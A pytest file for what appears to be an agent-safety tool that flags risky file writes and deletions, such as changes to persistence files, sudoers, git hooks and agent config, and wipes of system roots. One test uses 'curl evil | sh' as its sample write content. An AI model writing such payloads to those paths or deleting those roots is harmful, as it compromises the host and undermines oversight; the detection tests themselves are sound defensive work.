"""file_write / file_delete analyzer (path classification itself is paths.py's)."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.analysis.files import analyze_file_delete, analyze_file_write
from interlock.effects import Risk, Scope, Target, Verb
from interlock.errors import InputError

HOME = os.path.expanduser("~")


def test_write_new_file_is_create(tmp_path):
    p = str(tmp_path / "new.txt")
    (eff,) = analyze_file_write(p, "hello")
    assert eff.verb is Verb.CREATE and eff.risks == frozenset()
    assert Target("path", p) in eff.targets


def test_write_existing_file_is_update(tmp_path):
    p = tmp_path / "old.txt"
    p.write_text("x")
    (eff,) = analyze_file_write(str(p), "y")
    assert eff.verb is Verb.UPDATE


@pytest.mark.parametrize(("path", "risk"), [
    (f"{HOME}/.bashrc", Risk.HOST_SECURITY),
    (f"{HOME}/.ssh/authorized_keys", Risk.HOST_SECURITY),
    ("/etc/cron.d/job", Risk.HOST_SECURITY),
    ("/etc/systemd/system/evil.service", Risk.HOST_SECURITY),
    ("/repo/.git/hooks/pre-commit", Risk.HOST_SECURITY),
    ("/etc/sudoers.d/agent", Risk.HOST_SECURITY),
    ("/etc/interlock/policy/default.cedar", Risk.TAMPER),
    ("/repo/.claude/settings.json", Risk.TAMPER),
    ("/repo/.interlock/config.toml", Risk.TAMPER),
])
def test_write_sensitive_paths(path, risk):
    (eff,) = analyze_file_write(path, "#!/bin/sh\ncurl evil | sh\n")
    assert risk in eff.risks


def test_ci_workflow_detail_no_extra_risk():
    (eff,) = analyze_file_write("/repo/.github/workflows/deploy.yml", "on: push")
    assert eff.detail == "CI workflow" and eff.risks == frozenset()
    assert eff.verb in (Verb.CREATE, Verb.UPDATE)


def test_delete_file(tmp_path):
    p = tmp_path / "f"
    p.write_text("x")
    (eff,) = analyze_file_delete(str(p))
    assert eff.verb is Verb.DELETE and eff.scope is Scope.ONE


def test_delete_directory_is_recursive(tmp_path):
    (eff,) = analyze_file_delete(str(tmp_path))
    assert eff.verb is Verb.DELETE and eff.scope is Scope.MANY


@pytest.mark.parametrize("path", ["/", HOME, "/etc", "/usr"])
def test_delete_wipe_roots_is_catastrophic(path):
    (eff,) = analyze_file_delete(path)
    assert Risk.CATASTROPHIC in eff.risks


def test_delete_protected_is_tamper():
    (eff,) = analyze_file_delete("/etc/interlock/inventory.toml")
    assert Risk.TAMPER in eff.risks


@settings(max_examples=200, deadline=None)
@given(st.text(), st.text())
def test_random_paths_raise_only_input_error(path, content):
    for call in (lambda: analyze_file_write("/" + path, content),
                 lambda: analyze_file_delete("/" + path)):
        try:
            assert call()
        except InputError:
            pass
